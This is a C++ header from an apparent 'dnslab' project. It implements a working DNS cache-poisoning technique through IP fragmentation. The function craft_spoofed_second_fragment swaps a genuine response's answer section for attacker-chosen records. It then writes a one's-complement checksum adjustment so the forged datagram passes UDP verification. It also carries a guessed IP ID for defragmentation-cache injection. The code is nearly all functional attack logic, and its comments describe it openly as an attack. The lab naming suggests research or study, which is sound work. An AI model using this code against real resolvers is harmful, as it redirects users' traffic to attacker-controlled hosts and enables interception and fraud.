#pragma once

#include <cstdint>
#include <vector>

#include "dnslab/checksum.hpp"
#include "dnslab/dns.hpp"
#include "dnslab/error.hpp"
#include "dnslab/fragment.hpp"
#include "dnslab/ip.hpp"
#include "dnslab/udp.hpp"

namespace dnslab {

// True when the entire answer section of a response lands in the second
// fragment. The fixed part ahead of the answers is 40 bytes of headers
// (20 IP + 8 UDP + 12 DNS) plus the echoed question: the QNAME on the wire
// (qname_length + 1) and 4 bytes of type/class.
inline bool answer_section_boundary(size_t qname_length, size_t first_fragment_size) {
    if (first_fragment_size < kMinMtu)
        throw MtuTooSmall("first fragment below 68 bytes");
    return 40 + (qname_length + 1) + 4 >= first_fragment_size;
}

// Builds the spoofed second fragment for a defragmentation-cache injection.
//
// The receiver validates the reassembled datagram against the UDP checksum
// stored in the genuine first fragment. That checksum makes the sum over
// pseudo-header + first fragment + genuine second fragment fold to 0xffff,
// so a replacement second fragment passes verification for *any* matching
// first fragment iff its payload folds to the same one's-complement sum as
// the genuine second-fragment payload. Fragment payloads start on 8-byte
// offsets, so both sums are taken at even word alignment and the equality is
// arranged with a single 16-bit adjustment written at an even datagram
// offset:
//   - appended after the OPT record when the response carries one (the DNS
//     layer parses by section counts and never reads the extra bytes), or
//   - overwriting the last two even-offset bytes of the final record's rdata
//     otherwise.
//
// `observed_first` and `original_second` are the fragments of a genuine
// response the attacker obtained for its own earlier query; `malicious_records`
// replaces the answer section. Returns the fragment keyed like
// `original_second` but carrying `ipid_guess`.
inline Ipv4Packet craft_spoofed_second_fragment(const Ipv4Packet& observed_first,
                                                const Ipv4Packet& original_second,
                                                const std::vector<ResourceRecord>& malicious_records,
                                                uint16_t ipid_guess) {
    // Recover the genuine message to know the layout being overwritten.
    Bytes datagram = observed_first.payload;
    datagram.insert(datagram.end(), original_second.payload.begin(),
                    original_second.payload.end());
    if (datagram.size() < 8) throw Unadjustable("fragments do not form a UDP datagram");
    DnsMessage original;
    try {
        original = DnsMessage::decode(ByteView(datagram).subspan(8));
    } catch (const std::exception&) {
        throw Unadjustable("fragments do not contain the full original response");
    }

    DnsMessage forged = original;
    forged.answers = malicious_records;
    Bytes wire = forged.encode();

    // DNS byte index where the second fragment begins: fragment offsets count
    // from the start of the IP payload, whose first 8 bytes are the UDP header.
    size_t off8 = size_t(original_second.header.fragment_offset) * 8;
    if (off8 < 8) throw Unadjustable("second fragment offset inside UDP header");
    size_t cut = off8 - 8;
    if (wire.size() < cut + 2)
        throw Unadjustable("forged message too short to reach the second fragment");

    Bytes payload(wire.begin() + static_cast<long>(cut), wire.end());

    bool has_opt = false;
    for (const auto& rr : forged.additional)
        if (rr.rrtype == RrType::OPT) has_opt = true;

    size_t adj_pos;  // index into `payload`, even == even datagram offset
    if (has_opt) {
        if (payload.size() % 2 != 0) payload.push_back(0);
        adj_pos = payload.size();
        payload.push_back(0);
        payload.push_back(0);
    } else {
        const std::vector<ResourceRecord>* last_section = nullptr;
        for (const auto* sec : {&forged.additional, &forged.authority, &forged.answers})
            if (!sec->empty()) {
                last_section = sec;
                break;
            }
        if (!last_section) throw Unadjustable("forged message has no records");
        Bytes final_rr;
        DnsMessage::encode_rr(final_rr, last_section->back());
        Bytes final_name;
        encode_name(final_name, last_section->back().name);
        size_t rdata_len = final_rr.size() - final_name.size() - 10;
        size_t rdata_start = wire.size() - rdata_len;  // final record ends the message
        if (wire.size() < 2 || wire.size() - 2 < rdata_start || wire.size() - 2 < cut)
            throw Unadjustable("final rdata too short for the adjustment bytes");
        size_t pos = wire.size() - 2;
        if ((pos - cut) % 2 != 0) {
            if (pos == 0 || pos - 1 < rdata_start || pos - 1 < cut)
                throw Unadjustable("no even-offset position in final rdata");
            pos -= 1;
        }
        adj_pos = pos - cut;
        payload[adj_pos] = 0;
        payload[adj_pos + 1] = 0;
    }

    uint16_t target_sum = ones_complement_sum(original_second.payload);
    uint16_t new_sum = ones_complement_sum(payload);
    uint16_t adjust = ones_complement_sub(target_sum, new_sum);
    payload[adj_pos] = static_cast<uint8_t>(adjust >> 8);
    payload[adj_pos + 1] = static_cast<uint8_t>(adjust & 0xff);

    Ipv4Packet frag;
    frag.header = original_second.header;
    frag.header.ipid = ipid_guess;
    frag.header.mf_flag = false;
    frag.payload = std::move(payload);
    frag.header.total_length = static_cast<uint16_t>(frag.total_length());
    return frag;
}

} // namespace dnslab
